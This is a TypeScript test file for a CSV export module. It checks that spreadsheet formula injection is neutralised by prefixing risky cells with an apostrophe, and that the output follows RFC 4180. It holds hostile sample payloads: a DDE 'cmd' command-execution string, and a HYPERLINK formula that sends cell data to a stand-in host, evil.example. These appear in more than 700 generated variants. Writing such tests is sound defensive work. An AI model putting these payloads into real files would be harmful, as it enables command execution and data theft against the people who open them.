import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
import { categoryCsv, guardCell } from './csv'
import type { ResponseCategory } from './package-input'

const SIGNS = ['=', '+', '-', '@', '|', '%', '＝', '＋', '－', '＠']
const SKIPPED = [
  '',
  ' ',
  '   ',
  '\u00a0',
  '\u3000',
  '\u2003',
  '\ufeff',
  '\u200b',
  '\u200f',
  '\u0000',
  '\u0001',
  '\t',
  '\r',
  '\n',
  '\r\n',
  ' \u00a0\ufeff\t',
]
const BODIES = ["cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example?x="&A1,"open")', '1+1', 'SUM(A1:A9)*2']
const SEPARATED = [',', ';', '\t', '\n', '\r\n', ', ', ';"', ",'"].flatMap((separator) =>
  SIGNS.map((sign) => `harmless${separator}${sign}1+cmd()`),
)
const PAYLOADS = [
  ...SKIPPED.flatMap((skipped) => SIGNS.flatMap((sign) => BODIES.map((body) => `${skipped}${sign}${body}`))),
  ...SEPARATED,
  '\t1',
  '\r1',
  '\n1',
  '\u00001',
]

const category = (columns: readonly string[], rows: ResponseCategory['rows']): ResponseCategory => ({
  id: 'c',
  label: 'C',
  sourceSystem: 's',
  columns,
  rows,
  withheldCount: 0,
  withheldReasons: [],
})
const text = (of: ResponseCategory) => new TextDecoder('utf-8', { ignoreBOM: true }).decode(categoryCsv(of))
const cells = (of: ResponseCategory): string[][] =>
  parse(Buffer.from(categoryCsv(of)), { bom: true, record_delimiter: '\r\n' })

describe('CSV of a category', () => {
  it(`keeps each of ${PAYLOADS.length} formula payloads from being one, in a cell and in a header, and loses none of it`, () => {
    expect(PAYLOADS.length).toBeGreaterThan(700)
    const parsed = cells(
      category(
        ['payload', '=HEADER()'],
        PAYLOADS.map((payload) => ({ payload, '=HEADER()': 'x' })),
      ),
    )
    expect(parsed[0]).toEqual(['payload', "'=HEADER()"])
    for (const [at, payload] of PAYLOADS.entries()) expect(parsed[at + 1]?.[0]).toBe(`'${payload}`)
  })

  it('leaves plain numbers and ordinary text alone', () => {
    for (const value of [
      '-5.2',
      '0',
      '12',
      '-1',
      '3.14',
      'a-b',
      'me@example.org',
      '100 %',
      'x = y',
      'a, b; c',
      'line one,\nline two',
      'محمد',
      '',
    ]) {
      expect(guardCell(value), value).toBe(value)
    }
  })

  it('guards what only looks like a number', () => {
    for (const value of ['-1+1', '+15105550101', '--5', '-5e3', '-０', '-5 ', '%41'])
      expect(guardCell(value), value).toBe(`'${value}`)
  })

  it('is RFC 4180: byte order mark, every field quoted, quotes doubled, CRLF after every record', () => {
    expect(text(category(['a', 'b'], [{ a: 'say "hi"', b: 'x,y' }, { a: 'two\nlines' }]))).toBe(
      '\ufeff"a","b"\r\n"say ""hi""","x,y"\r\n"two\nlines",""\r\n',
    )
  })

  it("reads nothing but a row's own columns", () => {
    expect(cells(category(['constructor', '__proto__'], [{}]))[1]).toEqual(['', ''])
  })
})
